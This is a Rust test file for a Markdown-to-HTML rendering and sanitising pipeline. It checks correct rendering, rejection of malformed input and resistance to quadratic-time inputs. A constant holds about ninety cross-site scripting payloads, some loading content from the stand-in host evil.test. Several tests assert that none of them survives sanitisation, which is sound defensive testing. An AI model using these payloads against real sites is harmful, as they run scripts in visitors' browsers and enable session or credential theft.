//! The whole pipeline: what writers get, what attackers do not get, and how much work either can cause.

use proptest::prelude::*;

use super::html::{Token, attributes, tokens};
use super::*;

fn html(source: &str) -> String {
    render(source).expect("renders").html
}

#[test]
fn github_flavoured_markdown_renders() {
    let cases = [
        (
            "**b** _i_ ~~s~~ `c`",
            "<p><strong>b</strong> <em>i</em> <del>s</del> <code>c</code></p>",
        ),
        ("a\nb", "<p>a\nb</p>"),
        ("# One", "<h2 id=\"post-one\">One</h2>"),
        (
            "```rust\nlet a = 1 < 2;\n```",
            "<pre><code class=\"language-rust\">let a = 1 &lt; 2;\n</code></pre>",
        ),
        (
            "<kbd>Ctrl</kbd>+<kbd>K</kbd>",
            "<p><kbd>Ctrl</kbd>+<kbd>K</kbd></p>",
        ),
        ("", ""),
        ("   \n\n", ""),
    ];
    for (source, expected) in cases {
        assert_eq!(html(source).trim_end(), expected, "{source}");
    }
}

#[test]
fn a_pasted_link_becomes_a_link() {
    let expected = "<a href=\"https://example.com/a?b=1&amp;c=2\" rel=\"noopener noreferrer\">https://example.com/a?b=1&amp;c=2</a>";
    assert_eq!(
        html("See https://example.com/a?b=1&c=2.").trim_end(),
        format!("<p>See {expected}.</p>")
    );
    assert!(html("www.example.com").contains("href=\"http://www.example.com\""));
    assert!(html("me@example.com").contains("href=\"mailto:me@example.com\""));
}

#[test]
fn tables_task_lists_and_footnotes_render() {
    let table = html("| a | b |\n|:-:|--|\n| 1 | 2 |");
    assert!(
        table.contains("<th align=\"center\">a</th>") && table.contains("<td>2</td>"),
        "{table}"
    );
    let tasks = html("- [x] done\n- [ ] open");
    let boxes: Vec<_> = tokens(&tasks)
        .filter(|token| matches!(token, Token::Start { name, .. } if name == "input"))
        .collect();
    assert_eq!(boxes.len(), 2);
    for input in boxes {
        let Token::Start {
            attributes: raw, ..
        } = input
        else {
            unreachable!()
        };
        assert!(
            attributes(raw).any(|(name, _)| name == "disabled"),
            "{tasks}"
        );
        assert!(
            attributes(raw).any(|(name, value)| name == "type" && value == "checkbox"),
            "{tasks}"
        );
    }
    let note = html("Fact[^1].\n\n[^1]: Source.");
    assert!(
        note.contains("href=\"#post-fn-1\"") && note.contains("id=\"post-fn-1\""),
        "{note}"
    );
    assert!(
        note.contains("href=\"#post-fnref-1\"") && note.contains("id=\"post-fnref-1\""),
        "{note}"
    );
    assert_eq!(
        render("Fact[^1].\n\n[^1]: Source.")
            .expect("renders")
            .plaintext,
        "Fact.\nSource."
    );
}

#[test]
fn alerts_are_set_apart_and_say_what_they_are() {
    let alert = html("> [!WARNING]\n> Mind the *step*.");
    assert_eq!(
        alert,
        "<div class=\"markdown-alert markdown-alert-warning\">\n<p class=\"markdown-alert-title\">Warning</p>\n\
         <p>Mind the <em>step</em>.</p>\n</div>\n"
    );
    for kind in ["NOTE", "TIP", "IMPORTANT", "CAUTION"] {
        let class = format!("markdown-alert-{}", kind.to_lowercase());
        assert!(
            html(&format!("> [!{kind}]\n> x")).contains(&class),
            "{kind}"
        );
    }
    assert!(!html("<div class=\"card\">x</div>").contains("class"));
    assert!(html("> plain").starts_with("<blockquote>"));
}

#[test]
fn pictures_load_late_and_links_give_nothing_away() {
    let picture = html("![A cat](/cat.jpg \"Tom\")");
    for part in [
        "loading=\"lazy\"",
        "decoding=\"async\"",
        "alt=\"A cat\"",
        "src=\"/cat.jpg\"",
        "title=\"Tom\"",
    ] {
        assert!(picture.contains(part), "{picture}");
    }
    assert!(html("[x](/y)").contains("rel=\"noopener noreferrer\""));
    assert!(!html("<a href=/x rel=opener target=_blank>x</a>").contains("target"));
}

#[test]
fn derived_fields_come_from_what_readers_see() {
    let rendered = render("# Title\r\n\r\nHello *big* world.\r\n\r\n## Next\r\n\r\n<script>x()</script>\u{8}End &#8; here")
        .expect("renders");
    assert_eq!(
        rendered.source,
        "# Title\n\nHello *big* world.\n\n## Next\n\n<script>x()</script>End &#8; here"
    );
    assert_eq!(rendered.excerpt, "Hello big world. End here");
    assert!(
        rendered
            .plaintext
            .starts_with("Title\nHello big world.\nNext\n")
    );
    assert!(rendered.html.chars().all(input::is_xml_char));
    assert_eq!(
        rendered
            .toc
            .iter()
            .map(|line| line.id.as_str())
            .collect::<Vec<_>>(),
        ["post-title", "post-next"]
    );
    for line in &rendered.toc {
        assert!(rendered.html.contains(&format!("id=\"{}\"", line.id)));
    }
    assert_eq!(rendered.reading_minutes, 1);
    let long = render(&"word ".repeat(266)).expect("renders");
    assert_eq!((long.word_count, long.reading_minutes), (266, 2));
}

#[test]
fn empty_and_refused_sources() {
    let empty = render("").expect("renders");
    assert_eq!(
        (
            empty.html.as_str(),
            empty.excerpt.as_str(),
            empty.word_count,
            empty.reading_minutes
        ),
        ("", "", 0, 1)
    );
    assert_eq!(render("a\0b"), Err(SourceError::Nul));
    assert_eq!(
        render(&"a".repeat(input::MAX_SOURCE + 1)),
        Err(SourceError::TooLong)
    );
}

/// Vectors collected from the usual cheat sheets, from bugs in other sanitisers and from Markdown's own corners.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://x/y\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href='x' style='position:fixed;inset:0'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y)",
    "![x](y \"onerror=alert(1)\")",
    "<javascript:alert(1)>",
    "<https://a\"onmouseover=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onclick=alert(1)\ny\n```",
    "# <img src=x onerror=alert(1)>",
    "# a\" onmouseover=\"alert(1)",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "<iframe src=//evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "<form action=//evil.test><input type=password name=p><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=checkbox onfocus=alert(1) autofocus>",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div onmouseenter=alert(1)>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><a title=\"</title><script>alert(1)</script>\">",
    "<xmp><a title=\"</xmp><script>alert(1)</script>\">",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<p title=\"&quot; onmouseover=alert(1) x=&quot;\">x</p>",
    "<p \"onclick=alert(1)\">x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p =onclick=alert(1)>x</p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p id=forms><img name=getElementById id=location>",
    "<p class='admin danger'>x</p><code class='language-x hidden'>y</code>",
    "<a href=x target=_blank rel=opener ping=//evil.test>x</a>",
    "<select><option><style></option></select><script>alert(1)</script></style>",
    "<marquee onstart=alert(1)>x</marquee><blink>y</blink>",
    "<<script>alert(1);//<</script>",
    "<img src=`javascript:alert(1)`>",
    "<a href=\"tel:123\" onclick=alert(1)>call</a>",
    "<image href=javascript:alert(1)>",
    "<portal src=javascript:alert(1)><dialog open onclose=alert(1)>x</dialog>",
    "<slot onslotchange=alert(1)></slot><link rel=import href=//evil.test>",
];

/// Everything that the output of the sanitiser may hold, judged on its own serialisation.
fn violation(html: &str) -> Option<String> {
    let mut ids = std::collections::HashSet::new();
    for token in tokens(html) {
        let Token::Start {
            name,
            attributes: raw,
        } = token
        else {
            continue;
        };
        if !tidy::TAGS.contains(&name.as_str()) {
            return Some(format!("element {name}"));
        }
        for (attribute, value) in attributes(raw) {
            let fine = match attribute.as_str() {
                "href" | "src" => {
                    let plain: String = value
                        .chars()
                        .filter(|c| !c.is_ascii_control() && *c != ' ')
                        .collect();
                    let in_scheme = |c: char| c.is_ascii_alphanumeric() || "+-.".contains(c);
                    match plain.split_once(':') {
                        Some((scheme, _)) if scheme.chars().all(in_scheme) => {
                            ["http", "https", "mailto", "tel"].contains(&scheme)
                        }
                        _ => true,
                    }
                }
                "srcset" => !value.contains("javascript") && !value.contains("data:"),
                "id" => value.starts_with(tidy::ID_PREFIX) && ids.insert(value.to_owned()),
                "class" => value.split(' ').all(|class| {
                    class.starts_with("language-")
                        || class.starts_with("footnote")
                        || class.contains("task-list")
                }),
                "type" => value == "checkbox",
                "rel" => value == "noopener noreferrer",
                "alt" | "title" | "width" | "height" | "align" | "colspan" | "rowspan"
                | "start" | "checked" | "disabled" | "open" | "loading" | "decoding"
                | "datetime" | "cite" | "lang" | "dir" | "scope" | "sizes" | "hreflang"
                | "reversed" | "aria-label" => true,
                _ => false,
            };
            if !fine {
                return Some(format!("{name} {attribute}={value}"));
            }
        }
    }
    html.to_ascii_lowercase()
        .contains("<script")
        .then(|| "script".to_owned())
}

#[test]
fn no_vector_survives() {
    for vector in VECTORS {
        for source in [
            (*vector).to_owned(),
            format!("> - {vector}"),
            format!("text {vector} text"),
            vector.repeat(3),
        ] {
            let html = html(&source);
            assert_eq!(violation(&html), None, "{source}\n{html}");
            let base = ammonia::Url::parse("https://studio.example/post/").expect("a URL");
            assert_eq!(
                violation(&sanitize::absolute(&html, &base)),
                None,
                "{source}"
            );
        }
    }
}

#[test]
fn what_writers_want_survives() {
    let kept = [
        "<details open=\"\"><summary>More</summary>text</details>",
        "<figure><img alt=\"a\" src=\"/x.jpg\" srcset=\"/x.jpg 1x, https://cdn.example/x@2.jpg 2x\"><figcaption>b</figcaption></figure>",
        "<ruby>\u{6f22}<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
        "H<sub>2</sub>O and x<sup>2</sup>",
        "<a href=\"tel:+49301234\">call</a>",
    ];
    for source in kept {
        let html = html(source);
        for token in tokens(source) {
            match token {
                Token::Start {
                    name,
                    attributes: raw,
                } => {
                    assert!(html.contains(&format!("<{name}")), "{name}: {html}");
                    for (attribute, value) in attributes(raw) {
                        assert!(
                            html.contains(&format!("{attribute}=\"{value}\"")),
                            "{attribute}: {html}"
                        );
                    }
                }
                Token::Text(text) => assert!(html.contains(text), "{html}"),
                Token::End(_) => {}
            }
        }
    }
}

/// Inputs that cost naive pipelines the square of their length.
fn pathological(size: usize) -> Vec<(&'static str, String)> {
    let fill = |part: &str| part.repeat(size / part.len());
    let both = |first: &str, second: &str| {
        first.repeat(size / 2 / first.len()) + &second.repeat(size / 2 / second.len())
    };
    vec![
        ("open divs", fill("<div>")),
        ("open formatting", fill("<b><i><u>")),
        (
            "formatting left open before blocks",
            both("<b id=a>", "\n\nx"),
        ),
        ("distinct formatting, then blocks", {
            let open: Vec<_> = (0..size / 30).map(|n| format!("<b id=x{n}>")).collect();
            open.concat() + &"<p></p>".repeat(size / 14)
        }),
        ("text in tables", format!("<table>{}", fill("a<tr>b"))),
        (
            "formatting in tables",
            format!("<table>{}", fill("<b></b>")),
        ),
        ("tables in tables", fill("<table><tr><td>")),
        ("block quotes", fill(">")),
        ("lists", fill("- ")),
        ("lists, then empty lines", both("- ", "\n")),
        ("brackets", fill("[")),
        ("images", fill("![[](")),
        ("emphasis", fill("*a_ ")),
        ("nested emphasis", both("*a **a ", "b** b*")),
        (
            "code spans",
            (1..)
                .map(|n| "`".repeat(n) + "a")
                .scan(0, |sum, part| {
                    *sum += part.len();
                    (*sum < size).then_some(part)
                })
                .collect(),
        ),
        ("headings", fill("# a\n")),
        ("footnotes", format!("{}\n\n[^1]: x", fill("[^1]"))),
        (
            "wide table",
            format!(
                "{}\n{}\n{}",
                fill("|a").get(..size / 3).unwrap_or_default(),
                fill("|-").get(..size / 3).unwrap_or_default(),
                "|\n".repeat(size / 6)
            ),
        ),
        ("links", fill("www.a.b ")),
        ("addresses", fill("a@a.b ")),
        ("unclosed tags", format!("<div>\n{}", fill("<a "))),
        ("unclosed comments", fill("<!--")),
        ("unclosed scripts", fill("<script>")),
        ("closing tags", fill("</b></p></div>")),
        ("entities", fill("&amp;&#8;")),
        ("repeated ids", fill("<p id=x>")),
        ("lazy lines", format!("{}\n{}", ">".repeat(90), fill("x\n"))),
    ]
}

#[test]
fn a_source_that_expands_without_measure_is_refused() {
    assert_eq!(
        render(&format!("{}\n\n[^1]: x", "[^1]".repeat(50_000))),
        Err(SourceError::Expands)
    );
}

#[test]
fn work_grows_with_the_input_and_no_faster() {
    // The size of the output and the depth of its tree bound the work of every later step, whatever the clock says.
    for ((name, small), (_, large)) in pathological(4_000).into_iter().zip(pathological(16_000)) {
        let (small, large) = (html(&small), html(&large));
        assert!(
            large.len() <= 80 * 16_000,
            "{name}: {} bytes from 16,000",
            large.len()
        );
        assert!(
            large.len() <= 5 * small.len() + 4096,
            "{name}: {} then {} bytes",
            small.len(),
            large.len()
        );
        let mut depth = 0_usize;
        for token in tokens(&large) {
            match token {
                Token::Start { name, .. }
                    if !matches!(name.as_str(), "br" | "hr" | "img" | "input" | "wbr") =>
                {
                    depth += 1;
                }
                Token::End(_) => depth -= 1,
                _ => {}
            }
            assert!(depth <= tidy::MAX_DEPTH, "{name}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn nothing_forbidden_comes_out_of_any_mix(
        parts in prop::collection::vec(
            prop_oneof![
                prop::sample::select(VECTORS.to_vec()).prop_map(str::to_owned),
                prop::sample::select(vec!["\n\n", "\n", "> ", "- ", "`", "```\n", "*", "[", "](", ")", "<", ">", "\"", "'", "--", "&", "|", "# "])
                    .prop_map(str::to_owned),
                "[a-z ]{0,6}",
            ],
            0..12,
        )
    ) {
        let html = html(&parts.concat());
        prop_assert_eq!(violation(&html), None, "{}", html);
    }
}
